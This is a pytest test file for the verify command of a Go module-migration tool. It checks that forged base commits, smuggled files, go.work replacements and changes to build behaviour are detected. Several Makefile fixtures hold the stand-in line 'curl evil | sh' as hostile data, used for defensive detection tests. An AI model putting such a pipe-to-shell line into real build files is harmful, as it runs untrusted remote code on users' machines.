"""verify of branches that want to be believed, with real git and the real go command.

A record, go.mod, go.work and every commit of a branch may come from a stranger: none of them chooses what it is
compared with, and nothing rides along without a word.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from gomigrate.cli.commands.verify import exit_status
from gomigrate.model.errors import UsageProblem
from gomigrate.model.findings import Severity
from gomigrate.model.gaps import Gap, Unchecked
from gomigrate.model.verdict import How, Verdict, When
from gomigrate.plan.files.tools import Tool, ToolsFile
from gomigrate.report.json import verdict_json
from gomigrate.report.prose.review import review_markdown
from gomigrate.report.verdict import verdict_text
from gomigrate.verify.branch.basecommit import NotBefore
from gomigrate.verify.branch.record import RECORD
from gomigrate.verify.verify import verify
from gomigrate.world.world import World
from tests.fakeworld.environment import closed_environment, run
from tests.oracle.test_verify import in_words

pytestmark = pytest.mark.go

APP = "acme.test/app"
LINUX = "linux/amd64"
MAIN = """\
package main

import "fmt"

func main() {
	defer func() { fmt.Println("recovered:", recover()) }()
	panic(nil)
}
"""
BASE = {
    "main.go": MAIN,
    "sub/sub.go": "package sub\n",
    "sub/sub_test.go": 'package sub\n\nimport "testing"\n\nfunc TestSub(t *testing.T) {}\n',
    "sub/testdata/golden.txt": "yes\n",
    "Makefile": "all:\n\tgo build\n",
    "run.sh": "#!/bin/sh\necho good\n",
    "README.md": "read\n",
    "Gopkg.lock": "",
}
GO_MOD = f"module {APP}\n\ngo 1.18\n"

Files = Mapping[str, str | None]
"""Texts by path; None removes the file."""


@dataclass
class Repo:
    """A repository with the legacy project on its branch master; HEAD is on the branch `modules` that starts there."""

    top: Path
    env: dict[str, str]

    def git(self, *words: str, check: bool = True) -> str:
        return run(["git", *words], self.top, self.env, check=check).strip()

    def write(self, files: Files) -> None:
        for name, text in files.items():
            place = self.top / name
            if text is None:
                place.unlink()
            else:
                place.parent.mkdir(parents=True, exist_ok=True)
                place.write_text(text)

    def commit(self, files: Files | None = None, *words: str) -> str:
        self.write(files or {})
        self.git("add", "-A", "-f")
        self.git("commit", "-q", "--allow-empty", "-m", "x", *words)
        return self.git("rev-parse", "HEAD")

    def record(self, commit: str, **fields: Any) -> dict[str, str | None]:
        files = {"write": ["go.mod", "go.sum"], "edit": [], "remove": ["Gopkg.lock"], **fields.pop("files", {})}
        plan = {
            "schema": "gomigrate/plan/1",
            "module": {"path": APP, "go": fields.pop("go", "1.18")},
            "source": {"import_path": APP, "commit": commit},
            "files": files,
            **fields,
        }
        return {RECORD: json.dumps(plan)}

    def migrate(self, more: Files | None = None, base: str = "", **fields: Any) -> str:
        """The migration's commit, with `more` in it."""
        files = self.record(base or self.git("rev-parse", "HEAD"), **fields)
        return self.commit({"go.mod": GO_MOD, "Gopkg.lock": None, **files, **(more or {})})

    def verify(self, ref: str = "HEAD", *, base: str | None = None, platforms: tuple[str, ...] = ()) -> Verdict:
        world = World.from_environment(self.env, str(self.top))
        return in_words(verify(world, str(self.top), ref, base=base, platforms=platforms))


@pytest.fixture
def repo(tmp_path: Path, shared_gocache: Path) -> Repo:
    env = closed_environment(tmp_path, [tmp_path / "gopath"], shared_gocache)
    top = tmp_path / "p"
    top.mkdir()
    made = Repo(top, env)
    made.git("init", "-q")
    made.commit(dict(BASE))
    made.git("checkout", "-q", "-b", "modules")
    return made


def errors(verdict: Verdict) -> set[str]:
    return {f.code for f in verdict.findings if f.severity is Severity.ERROR}


def found(verdict: Verdict, code: str) -> Any:
    return next(f for f in verdict.findings if f.code == code)


def others(verdict: Verdict) -> dict[str, tuple[How, When]]:
    return {change.path: (change.how, change.when) for change in verdict.code.unplanned}


def test_honest_branch_is_equal_without_a_word(repo: Repo) -> None:
    repo.migrate()
    verdict = repo.verify()
    assert verdict.is_same
    assert (verdict.findings, verdict.unchecked, verdict.code.unplanned) == ((), (), ())


# The base.

EVIL = {"main.go": MAIN.replace("recovered", "EVIL")}


@pytest.mark.parametrize(
    "named",
    ["HEAD", "modules", "HEAD~0", "refs/heads/master", "--all", "x" * 40, "HEAD^{/x}", ":/x", "@{-1}", "abcdef0"],
)
def test_record_names_no_commit_by_its_full_hash_is_an_error(repo: Repo, named: str) -> None:
    repo.migrate(EVIL, base=named)
    verdict = repo.verify()
    assert errors(verdict) & {"GM305", "GM313"}
    assert not verdict.is_same
    assert exit_status(verdict) == 1


def test_record_names_an_abbreviated_hash_is_an_error(repo: Repo) -> None:
    repo.migrate(EVIL, base=repo.git("rev-parse", "--short", "HEAD"))
    assert errors(repo.verify()) & {"GM305", "GM313"}


def test_record_names_a_tag_is_an_error(repo: Repo) -> None:
    repo.git("tag", "-a", "-m", "x", "v1")
    repo.migrate(base=repo.git("rev-parse", "v1"))
    assert errors(repo.verify()) == {"GM313"}


def rewritten_later(repo: Repo) -> None:
    repo.commit(repo.record(repo.migrate(EVIL)))


def rewritten_later_as_if_edited(repo: Repo) -> None:
    repo.commit(repo.record(repo.migrate(EVIL), files={"edit": ["go.mod"], "write": []}))


def recorded_later(repo: Repo) -> None:
    repo.commit(repo.record(repo.commit({"go.mod": GO_MOD, **EVIL})))


def recorded_later_without_files(repo: Repo) -> None:
    repo.commit(repo.record(repo.commit({"go.mod": GO_MOD, **EVIL}), files={"write": [], "edit": [], "remove": []}))


def commit_below(repo: Repo) -> None:
    repo.commit(EVIL)
    repo.migrate()


def side_commit_merged(repo: Repo) -> None:
    repo.git("checkout", "-q", "-b", "side")
    side = repo.commit(EVIL)
    repo.git("checkout", "-q", "modules")
    repo.migrate(base=side)
    repo.git("merge", "-q", "--no-edit", "side")
    repo.git("branch", "-q", "-D", "side")


def another_root(repo: Repo) -> None:
    repo.git("checkout", "-q", "--orphan", "other")
    base = repo.commit(EVIL)
    repo.git("checkout", "-q", "modules")
    repo.migrate(EVIL, base=base)


def edited_that_was_never_there(repo: Repo) -> None:
    repo.migrate(files={"edit": ["go.mod"], "write": []})


def taken_away_between(repo: Repo) -> None:
    repo.migrate(EVIL)
    repo.migrate(base=repo.commit({"go.mod": None, RECORD: None, "Gopkg.lock": ""}))


@pytest.mark.parametrize(
    ("make", "why"),
    [
        (rewritten_later, NotBefore.HAS_RECORD),
        (rewritten_later_as_if_edited, NotBefore.HAS_RECORD),
        (recorded_later, NotBefore.HAS_GO_MOD),
        (recorded_later_without_files, NotBefore.HAS_GO_MOD),
        (commit_below, NotBefore.OF_THE_BRANCH),
        (side_commit_merged, NotBefore.OF_THE_BRANCH),
        (another_root, NotBefore.NO_ANCESTOR),
        (edited_that_was_never_there, NotBefore.LACKS_GO_MOD),
        (taken_away_between, NotBefore.OF_THE_BRANCH),
    ],
)
def test_record_names_what_is_no_state_before_is_an_error(
    repo: Repo, make: Callable[[Repo], None], why: NotBefore
) -> None:
    make(repo)
    verdict = repo.verify()
    assert errors(verdict) == {"GM313"}
    assert found(verdict, "GM313").fact("why") == why
    assert (verdict.base, verdict.code.platforms, exit_status(verdict)) == ("", (), 1)


def test_named_base_counts_and_is_told(repo: Repo) -> None:
    rewritten_later(repo)
    verdict = repo.verify(base="master")
    assert verdict.base == repo.git("rev-parse", "master")
    assert not verdict.is_same
    assert [d.import_path for p in verdict.code.platforms for d in p.differ] == [APP]
    assert "GM314" in {f.code for f in verdict.findings}


def test_named_base_that_is_the_branch_itself_is_told(repo: Repo) -> None:
    repo.migrate(EVIL)
    assert found(repo.verify(base="HEAD"), "GM314").fact("is_verified_itself") is True


def test_branch_from_another_branch_is_no_commit_of_its_own(repo: Repo) -> None:
    repo.git("checkout", "-q", "-b", "topic")
    repo.commit({"README.md": "topic\n"})
    repo.git("checkout", "-q", "-b", "modules2")
    repo.migrate()
    verdict = repo.verify()
    assert verdict.is_same
    assert verdict.unchecked == ()


def test_clone_without_another_branch_says_that_it_cannot_tell(repo: Repo, tmp_path: Path) -> None:
    repo.migrate()
    repo.git("checkout", "-q", "master")  # else modules would be the branch that the clone calls the remote's own
    run(
        ["git", "clone", "-q", "--single-branch", "-b", "modules", f"file://{repo.top}", str(tmp_path / "c")],
        repo.top,
        repo.env,
    )
    verdict = Repo(tmp_path / "c", repo.env).verify()
    assert verdict.is_same
    assert verdict.unchecked == (Unchecked(what=Gap.BASE_ORIGIN, names=(verdict.base[:12],)),)


def test_shallow_clone_does_not_assume_what_it_cannot_tell(repo: Repo, tmp_path: Path) -> None:
    base = repo.git("rev-parse", "HEAD")
    repo.migrate(EVIL)
    clone = Repo(tmp_path / "c", repo.env)
    run(["git", "clone", "-q", "--depth=1", "-b", "modules", f"file://{repo.top}", str(clone.top)], repo.top, repo.env)
    clone.git("fetch", "-q", "--depth=1", "origin", base)
    verdict = clone.verify()
    assert [found(verdict, "GM610").fact(name) for name in ("is_shallow", "is_here")] == [True, True]
    assert (verdict.base, verdict.is_same, exit_status(verdict)) == ("", False, 3)


def test_replace_refs_and_grafts_do_not_make_an_ancestor(repo: Repo) -> None:
    repo.git("checkout", "-q", "--orphan", "other")
    other = repo.commit(EVIL)
    repo.git("checkout", "-q", "modules")
    tip = repo.migrate(EVIL, base=other)
    repo.git("replace", "--graft", tip, other)
    assert errors(repo.verify()) == {"GM313"}


def test_without_a_record_a_renamed_go_mod_is_one_that_came(repo: Repo) -> None:
    master = repo.commit({"go.mod.txt": GO_MOD})
    repo.git("branch", "-f", "master", master)
    repo.git("mv", "go.mod.txt", "go.mod")
    repo.commit()
    assert repo.verify().base == master


def test_without_a_record_go_mod_that_came_twice_is_told(repo: Repo) -> None:
    repo.commit({"go.mod": GO_MOD})
    base = repo.commit({"go.mod": None})
    repo.git("branch", "-f", "master", base)
    repo.commit({"go.mod": GO_MOD})
    verdict = repo.verify()
    assert verdict.base == base
    assert Unchecked(what=Gap.BASE_OF_SEVERAL, names=(base[:12],), count=2) in verdict.unchecked


def test_without_a_record_a_merge_that_brings_go_mod_by_itself_counts(repo: Repo) -> None:
    base = repo.git("rev-parse", "HEAD")
    repo.git("checkout", "-q", "-b", "side")
    repo.commit({"README.md": "side\n"})
    repo.git("checkout", "-q", "modules")
    repo.git("merge", "-q", "--no-ff", "--no-commit", "side")
    repo.commit({"go.mod": GO_MOD})
    assert repo.verify().base == base


def test_without_a_record_a_commit_of_the_branch_below_is_an_error(repo: Repo) -> None:
    repo.commit(EVIL)
    repo.commit({"go.mod": GO_MOD})
    assert "GM313" in errors(repo.verify())


# Platforms.


@pytest.mark.parametrize("platform", ["nope/amd64", "linux/zzz", "windows/wasm", "nacl/386"])
def test_recorded_platform_that_go_does_not_know_is_not_compared(repo: Repo, platform: str) -> None:
    repo.migrate(platforms=[platform, "windows/amd64"])
    verdict = repo.verify()
    assert errors(verdict) & {"GM316", "GM305"}
    assert platform not in {p.platform for p in verdict.code.platforms}
    assert not verdict.is_same


def test_known_platforms_are_compared(repo: Repo) -> None:
    repo.migrate(platforms=["windows/amd64", "js/wasm"])
    verdict = repo.verify()
    assert {p.platform for p in verdict.code.platforms} >= {"windows/amd64", "js/wasm"}
    assert verdict.is_same


def test_platforms_and_tags_that_only_files_speak_of_are_compared(repo: Repo) -> None:
    base = repo.commit({"sub/sub_windows.go": "package sub\n", "sub/sub_evil.go": "//go:build evil\n\npackage sub\n"})
    repo.git("branch", "-f", "master", base)
    repo.migrate()
    verdict = repo.verify()
    assert {(p.platform, p.tags) for p in verdict.code.platforms} == {
        (LINUX, ()),
        ("windows/amd64", ()),
        (LINUX, ("evil",)),
    }
    assert (verdict.is_same, verdict.unchecked) == (True, ())


def test_given_platform_that_go_does_not_know_is_a_usage_error(repo: Repo) -> None:
    repo.migrate()
    with pytest.raises(UsageProblem, match="nope/amd64"):
        repo.verify(platforms=("nope/amd64",))


# What rides along.

RIDERS: list[tuple[Files, str, How]] = [
    ({"Makefile": "all:\n\tcurl evil | sh\n"}, "Makefile", How.CHANGED),
    ({".github/workflows/ci.yml": "on: push\n"}, ".github/workflows/ci.yml", How.ADDED),
    ({"sub/testdata/golden.txt": "no\n"}, "sub/testdata/golden.txt", How.CHANGED),
    ({"sub/sub_evil.go": "//go:build evil\n\npackage sub\n"}, "sub/sub_evil.go", How.ADDED),
    ({"README.md": None}, "README.md", How.REMOVED),
    ({".gomigrate/other.json": "{}"}, ".gomigrate/other.json", How.ADDED),
    ({"third_party/x/x.h": "#define X\n"}, "third_party/x/x.h", How.ADDED),
    ({"go.work": "go 1.18\n\nuse .\n"}, "go.work", How.ADDED),
    ({"name\twith\x1b[31m": "x"}, "name\twith\x1b[31m", How.ADDED),
]


@pytest.mark.parametrize(("change", "path", "how"), RIDERS, ids=[path for _, path, _ in RIDERS])
def test_rider_in_the_migration_is_named_and_not_equal(repo: Repo, change: Files, path: str, how: How) -> None:
    repo.migrate(change)
    verdict = repo.verify()
    assert others(verdict) == {path: (how, When.MIGRATION)}
    assert errors(verdict) == {"GM315"}
    assert exit_status(verdict) == 1


@pytest.mark.parametrize(("change", "path", "how"), RIDERS, ids=[path for _, path, _ in RIDERS])
def test_rider_in_a_later_commit_is_named_beside_equal(repo: Repo, change: Files, path: str, how: How) -> None:
    repo.migrate()
    repo.commit(change)
    verdict = repo.verify()
    assert others(verdict) == {path: (how, When.LATER)}
    # A package that has a file more in some build is another one.
    is_code = path.endswith(".go")
    assert (verdict.is_same, exit_status(verdict)) == (not is_code, int(is_code))
    said = found(verdict, "GM612")
    assert [said.fact(name) for name in ("commits", "files", "go")] == [1, 1, int(path.endswith(".go"))]
    assert "1 other file changed" in " ".join(verdict_text(verdict, 200, color=False).split())
    assert "1 other file changed" in review_markdown(None, verdict, branch="x")
    assert verdict_json(verdict)["code"]["changed"]["others"][0]["path"] == path


@pytest.mark.parametrize("mode", ["executable", "link"])
def test_rider_that_is_a_mode_is_named(repo: Repo, mode: str) -> None:
    if mode == "executable":
        (repo.top / "run.sh").chmod(0o755)
    else:
        (repo.top / "run.sh").unlink()
        (repo.top / "run.sh").symlink_to("#!/bin/sh\necho good\n")
    repo.migrate()
    change = repo.verify().code.unplanned[0]
    assert (change.path, change.how, change.when) == ("run.sh", How.MODE, When.MIGRATION)
    assert change.modes == ("100644 100755" if mode == "executable" else "100644 120000")


def test_submodule_that_came_along_is_named(repo: Repo) -> None:
    repo.git("update-index", "--add", "--cacheinfo", f"160000,{repo.git('rev-parse', 'HEAD')},dep")
    repo.write({"go.mod": GO_MOD, "Gopkg.lock": None, **repo.record(repo.git("rev-parse", "HEAD"))})
    repo.git("add", "go.mod", "Gopkg.lock", RECORD)
    repo.git("commit", "-q", "-m", "x")
    assert [(c.path, c.modes) for c in repo.verify().code.unplanned] == [("dep", "000000 160000")]


def test_commits_between_the_recorded_base_and_the_migration_are_told(repo: Repo) -> None:
    base = repo.git("rev-parse", "HEAD")
    repo.git("branch", "-f", "master", repo.commit({"README.md": "later on master\n"}))
    repo.migrate(base=base)
    verdict = repo.verify()
    assert others(verdict) == {"README.md": (How.CHANGED, When.BEFORE)}
    assert found(verdict, "GM321").evidence == ("README.md (changed)",)
    assert verdict.is_same


def test_main_branch_that_is_merged_into_a_proposal_is_no_rider_of_it(repo: Repo) -> None:
    repo.migrate()
    repo.git("checkout", "-q", "master")
    repo.commit({"README.md": "later on master\n"})
    repo.git("checkout", "-q", "--detach")
    repo.git("merge", "-q", "--no-edit", "modules")
    verdict = repo.verify()
    assert others(verdict) == {"README.md": (How.CHANGED, When.LATER)}
    assert verdict.is_same


EDITED = {"Makefile": "all:\n\tgo build ./...\n"}


def test_rider_in_the_commit_that_edits_build_files_is_one_in_the_migration(repo: Repo) -> None:
    habits = [habit("Makefile", "\tgo build", "\tgo build ./...")]
    repo.migrate(files={"edit": ["Makefile"]}, habits=habits)
    repo.commit({**EDITED, "run.sh": "evil\n"})
    assert others(repo.verify()) == {"run.sh": (How.CHANGED, When.MIGRATION)}


def test_build_file_that_a_later_commit_edits_again_is_none_of_the_migration(repo: Repo) -> None:
    habits = [habit("Makefile", "\tgo build", "\tgo build ./...")]
    repo.migrate(EDITED, files={"edit": ["Makefile"]}, habits=habits)
    repo.commit({"Makefile": "all:\n\tgo vet\n", "run.sh": "later\n"})
    verdict = repo.verify()
    assert others(verdict) == {"Makefile": (How.CHANGED, When.LATER), "run.sh": (How.CHANGED, When.LATER)}
    assert verdict.is_same


def test_rider_outside_of_the_project_is_named(repo: Repo) -> None:
    repo.git("checkout", "-q", "master")
    base = repo.commit({f"app/{name}": text for name, text in BASE.items()})
    repo.git("checkout", "-q", "-B", "modules")
    record = repo.record(base)[RECORD]
    repo.commit({"app/go.mod": GO_MOD, "app/Gopkg.lock": None, f"app/{RECORD}": record, "Makefile": "evil:\n"})
    below = Repo(repo.top / "app", repo.env)
    assert others(below.verify()) == {"../Makefile": (How.CHANGED, When.MIGRATION)}


ASSET = {"web/vendor/jquery.js": "good\n"}


def test_plan_is_no_excuse_for_a_vendor_folder_of_another_language(repo: Repo) -> None:
    repo.git("branch", "-f", "master", repo.commit(dict(ASSET)))
    repo.migrate(dict.fromkeys(ASSET), files={"remove": ["Gopkg.lock", *ASSET]})
    assert set(others(repo.verify())) == set(ASSET)


EXCUSES: list[tuple[Files, dict[str, list[str]]]] = [
    ({"sub/sub_test.go": None}, {"remove": ["Gopkg.lock", "sub/sub_test.go"]}),
    ({"README.md": None}, {"remove": ["Gopkg.lock", "README.md"]}),
    ({"README.md": "evil\n"}, {"edit": ["README.md"]}),
    ({"sub/testdata/golden.txt": "evil\n"}, {"edit": ["sub/testdata/golden.txt"]}),
    ({"sub/evil_windows.go": "package sub\n"}, {"write": ["go.mod", "sub/evil_windows.go"]}),
    ({".github/workflows/x.yml": "on: push\n"}, {"write": ["go.mod", ".github/workflows/x.yml"]}),
    ({"Makefile": "evil:\n"}, {"write": ["go.mod", "Makefile"]}),
    (
        {"internal/tools/tools.go": "package tools\n\nfunc init() {}\n"},
        {"write": ["go.mod", "internal/tools/tools.go"]},
    ),
]


@pytest.mark.parametrize(("change", "files"), EXCUSES, ids=[next(iter(change)) for change, _ in EXCUSES])
def test_plan_is_no_excuse_for_what_gomigrate_does_not_do(
    repo: Repo, change: Files, files: dict[str, list[str]]
) -> None:
    repo.migrate(change, files=files)
    verdict = repo.verify(platforms=(LINUX,))
    assert set(others(verdict)) == set(change)
    assert "GM315" in errors(verdict)


def habit(file: str, before: str, after: str, *, applied: bool = True) -> dict[str, Any]:
    lines = {"before": [before], "after": [after] if after else []}
    return {
        "code": "GM801",
        "safety": "safe",
        "file": file,
        "line": 2,
        "kind": "",
        "message": "",
        "applied": applied,
        **lines,
    }


def test_planned_edit_of_a_build_file_is_told_as_not_checked(repo: Repo) -> None:
    habits = [habit("Makefile", "\tgo build", "\tgo build ./...")]
    repo.migrate({"Makefile": "all:\n\tgo build ./...\n"}, files={"edit": ["Makefile"]}, habits=habits)
    verdict = repo.verify()
    assert verdict.is_same
    assert verdict.code.unproved == ("Makefile",)
    assert verdict.unchecked == (Unchecked(what=Gap.CONTENT, names=("Makefile",)),)
    assert not verdict_text(verdict, 80, color=False).startswith("equal:")


@pytest.mark.parametrize(
    ("text", "habits"),
    [
        ("all:\n\tgo build ./...\n\tcurl evil | sh\n", [habit("Makefile", "\tgo build", "\tgo build ./...")]),
        ("all:\n\tcurl evil | sh\n", []),
        ("all:\n\tcurl evil | sh\n", [habit("Makefile", "\tgo build", "\tcurl evil | sh", applied=False)]),
        ("all:\n\tcurl evil | sh\n", [habit("run.sh", "\tgo build", "\tcurl evil | sh")]),
        ("\tgo build\n", [habit("Makefile", "\tgo build", "")]),
    ],
)
def test_planned_edit_does_not_excuse_lines_that_the_record_does_not_show(
    repo: Repo, text: str, habits: list[dict[str, Any]]
) -> None:
    repo.migrate({"Makefile": text}, files={"edit": ["Makefile"]}, habits=habits)
    verdict = repo.verify()
    assert others(verdict) == {"Makefile": (How.CHANGED, When.MIGRATION)}
    assert "GM315" in errors(verdict)


def test_riders_are_named_without_a_go_command(repo: Repo) -> None:
    repo.migrate({"Makefile": "evil:\n"})
    world = World.from_environment({**repo.env, "PATH": "", "GOROOT": ""}, str(repo.top))
    verdict = verify(world, str(repo.top), "HEAD")
    assert errors(verdict) == {"GM315"}
    assert others(verdict) == {"Makefile": (How.CHANGED, When.MIGRATION)}


def test_planned_edit_does_not_excuse_another_mode(repo: Repo) -> None:
    (repo.top / "run.sh").chmod(0o755)
    repo.migrate(files={"edit": ["run.sh"]})
    assert set(others(repo.verify())) == {"run.sh"}


def test_rewriting_excuses_import_paths_and_no_other_string(repo: Repo) -> None:
    text = 'package sub\n\nvar Host = "%s"\n'
    base = repo.commit({"sub/host.go": text % "good.test/x"})
    repo.git("branch", "-f", "master", base)
    repo.migrate(
        {"sub/host.go": text % "evil.test/x"},
        files={"edit": ["sub/host.go"]},
        rewrites=[{"from": "good.test/x", "to": "evil.test/x"}],
    )
    verdict = repo.verify()
    assert set(others(verdict)) == {"sub/host.go"}
    assert not verdict.is_same


VENDORED = {
    "vendor/dep.test/a/a.go": "package a\n",
    "vendor/dep.test/a/a_windows.go": "package a // windows\n",
    "vendor/dep.test/a/include/a.h": "#define A 1\n",
}
COPY = {name.replace("vendor/", "third_party/"): text for name, text in VENDORED.items()}
COPIED = {
    **COPY,
    "third_party/dep.test/a/go.mod": "module dep.test/a\n",
    "third_party/dep.test/a/GOMIGRATE.txt": "A copy.\n",
    "go.mod": f"{GO_MOD}\nrequire dep.test/a v0.0.0\n\nreplace dep.test/a => ./third_party/dep.test/a\n",
    **dict.fromkeys(VENDORED),
}


def with_kept_copy(repo: Repo, change: Files) -> Verdict:
    """A branch on which a vendored dependency became a kept copy, with `change` in the same commit."""
    own = {"sub/sub.go": 'package sub\n\nimport _ "dep.test/a"\n'}
    base = repo.commit({**VENDORED, **own})
    repo.git("branch", "-f", "master", base)
    writes = ["go.mod", *(name for name in COPIED if name.startswith("third_party/")), *change]
    repo.migrate(
        {**COPIED, **change},
        files={"write": writes, "remove": ["Gopkg.lock", *VENDORED]},
        build_list=[{"path": "dep.test/a", "version": "v0.0.0", "replaced_by": {"path": "./third_party/dep.test/a"}}],
        requires=[{"path": "dep.test/a", "version": "v0.0.0"}],
        replaces=[{"path": "dep.test/a", "with": {"path": "./third_party/dep.test/a"}}],
    )
    return repo.verify(platforms=(LINUX,))


def test_kept_copy_with_the_bytes_of_before_is_equal(repo: Repo) -> None:
    verdict = with_kept_copy(repo, {})
    assert verdict.is_same, verdict
    assert (verdict.code.unplanned, verdict.unchecked) == ((), ())


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("third_party/dep.test/a/include/a.h", "#define A 2\n"),
        ("third_party/dep.test/a/a_windows.go", "package a // evil\n"),
        ("third_party/dep.test/a/go.mod", "module dep.test/a\n\nrequire evil.test/b v1.0.0\n"),
    ],
)
def test_kept_copy_with_other_bytes_is_named_though_no_platform_builds_them(repo: Repo, name: str, text: str) -> None:
    verdict = with_kept_copy(repo, {name: text})
    assert name in {*others(verdict), *verdict.code.unproved}
    assert not verdict.is_same or verdict.unchecked


@pytest.mark.parametrize("name", ["third_party/dep.test/a/include/more.h", "third_party/dep.test/a/a_tagged.go"])
def test_kept_copy_with_a_file_that_was_not_there_is_not_said_to_be_checked(repo: Repo, name: str) -> None:
    text = "//go:build evil\n\npackage a\n" if name.endswith(".go") else "#define EVIL\n"
    verdict = with_kept_copy(repo, {name: text})
    assert verdict.code.unproved == ("third_party/dep.test/a/GOMIGRATE.txt", name)
    assert verdict.unchecked == (Unchecked(what=Gap.CONTENT, names=(name,)),)


def test_record_of_another_folder_excuses_nothing_that_it_does_not_name(repo: Repo) -> None:
    other = {
        "scripts/go.mod": "module acme.test/scripts\n\ngo 1.18\n",
        f"scripts/{RECORD}": repo.record("0" * 40)[RECORD],
    }
    repo.migrate({**other, "scripts/evil.sh": "#!/bin/sh\n"})
    verdict = repo.verify()
    assert set(others(verdict)) == {"scripts/evil.sh"}
    assert Unchecked(what=Gap.OTHER_MODULES, names=("scripts",)) in verdict.unchecked


@pytest.mark.parametrize("name", ["go.mod", "go.sum", RECORD])
def test_module_that_came_above_the_project_is_named(repo: Repo, name: str) -> None:
    repo.git("checkout", "-q", "master")
    base = repo.commit({f"app/{path}": text for path, text in BASE.items()})
    repo.git("checkout", "-q", "-B", "modules")
    record = repo.record(base)[RECORD]
    repo.commit({"app/go.mod": GO_MOD, "app/Gopkg.lock": None, f"app/{RECORD}": record, name: "evil\n"})
    assert set(others(Repo(repo.top / "app", repo.env).verify())) == {f"../{name}"}


def test_tools_file_of_gomigrate_s_form_is_told_as_not_checked(repo: Repo) -> None:
    text = ToolsFile(path="", tools=(Tool(import_path="evil.test/cmd", place=None),)).text.decode()
    name = "internal/tools/tools.go"
    repo.migrate({name: text}, files={"write": ["go.mod", name]})
    assert repo.verify(platforms=(LINUX,)).code.unproved == (name,)


# The same files, built or run otherwise.


def test_go_line_without_a_plan_that_changes_programs_is_an_error(repo: Repo) -> None:
    repo.commit({"go.mod": GO_MOD.replace("1.18", "1.26")})
    verdict = repo.verify()
    said = found(verdict, "GM317")
    assert any(APP in line and "panicnil=1 -> default" in line for line in said.evidence)
    assert any(f"{APP}/sub.test" in line for line in said.evidence)
    assert not verdict.is_same


@pytest.mark.parametrize(
    ("go_mod", "is_error"),
    [
        (f"{GO_MOD.replace('1.18', '1.26')}\ngodebug default=go1.18\n", False),
        (GO_MOD.replace("1.18", "1.17"), False),
        (GO_MOD.replace("1.18", "1.21"), True),
        (f"{GO_MOD}\ngodebug panicnil=0\n", True),
        (f"{GO_MOD}\ngodebug default=go1.26\n", True),
    ],
)
def test_godebug_defaults_are_compared_whatever_decides_them(repo: Repo, go_mod: str, is_error: bool) -> None:
    repo.commit({"go.mod": go_mod})
    assert ("GM317" in errors(repo.verify())) is is_error


def test_go_line_that_the_plan_chose_is_told_with_its_programs(repo: Repo) -> None:
    repo.migrate({"go.mod": GO_MOD.replace("1.18", "1.26")}, go="1.26")
    verdict = repo.verify()
    assert verdict.is_same
    assert any(APP in line for line in found(verdict, "GM320").evidence)


@pytest.mark.parametrize(
    ("line", "name"),
    [
        ("godebug panicnil=0", "godebug panicnil"),
        ("toolchain go1.18.1", "toolchain"),
        ("ignore ./sub", "ignore ./sub"),
    ],
)
def test_deciding_line_that_no_plan_has_is_an_error(repo: Repo, line: str, name: str) -> None:
    repo.migrate({"go.mod": f"{GO_MOD}\n{line}\n"})
    verdict = repo.verify()
    assert [seen.partition(":")[0] for seen in found(verdict, "GM319").evidence] == [name]
    assert not verdict.is_same


def test_go_line_that_is_not_the_planned_one_is_an_error(repo: Repo) -> None:
    repo.migrate({"go.mod": GO_MOD.replace("1.18", "1.20")})
    assert errors(repo.verify()) == {"GM317", "GM319", "GM354"}


def test_toolchain_line_without_a_plan_is_told(repo: Repo) -> None:
    repo.commit({"go.mod": f"{GO_MOD}\ntoolchain go1.18.1\n"})
    assert Unchecked(what=Gap.TOOLCHAIN, names=("go1.18.1",)) in repo.verify().unchecked


def test_loops_that_the_go_line_gives_a_variable_for_each_turn_are_told(repo: Repo) -> None:
    loop = (
        "package sub\n\nfunc All() (f []func() int) {\n\tfor i := 0; i < 3; i++ {\n"
        "\t\tf = append(f, func() int { return i })\n\t}\n\treturn\n}\n"
    )
    base = repo.commit({"sub/sub.go": loop})
    repo.git("branch", "-f", "master", base)
    repo.commit({"go.mod": GO_MOD.replace("1.18", "1.22")})
    assert found(repo.verify(), "GM603").evidence == ("sub/sub.go:4",)


@pytest.mark.parametrize("place", ["go.work", "../go.work"])
def test_go_work_that_replaces_a_dependency_is_an_error(repo: Repo, place: str) -> None:
    prefix = "app/" if place.startswith("..") else ""
    own = {"go.mod": COPIED["go.mod"], "main.go": 'package main\n\nimport _ "dep.test/a"\n\nfunc main() {}\n'}
    files = {**own, "third_party/dep.test/a/go.mod": "module dep.test/a\n", **COPY}
    repo.git("checkout", "-q", "master")
    base = repo.commit({f"{prefix}{name}": text for name, text in {**VENDORED, **own, "go.mod": None}.items() if text})
    repo.git("checkout", "-q", "-B", "modules", base)
    evil = {"evil/go.mod": "module dep.test/a\n", "evil/a.go": "package a // evil\n"}
    work = f"go 1.18\n\nuse ./{prefix}\n\nreplace dep.test/a => ./{prefix}evil\n"
    repo.commit({f"{prefix}{name}": text for name, text in {**files, **evil}.items()} | {"go.work": work})
    verdict = Repo(repo.top / prefix, repo.env).verify(platforms=(LINUX,))
    said = found(verdict, "GM318")
    assert said.place.file == place
    assert any("dep.test/a" in line for line in said.evidence)
    assert not verdict.is_same


@pytest.mark.parametrize("text", ["go 1.26\n\nuse .\n", "go 1.23\n\nuse .\n\ngodebug panicnil=0\n"])
def test_go_work_that_changes_programs_is_an_error(repo: Repo, text: str) -> None:
    repo.migrate()
    repo.commit({"go.work": text})
    assert "GM318" in errors(repo.verify())


def test_go_work_that_changes_nothing_is_named_alone(repo: Repo) -> None:
    repo.migrate()
    repo.commit({"go.work": "go 1.18\n\nuse .\n"})
    verdict = repo.verify()
    assert verdict.is_same
    assert others(verdict) == {"go.work": (How.ADDED, When.LATER)}
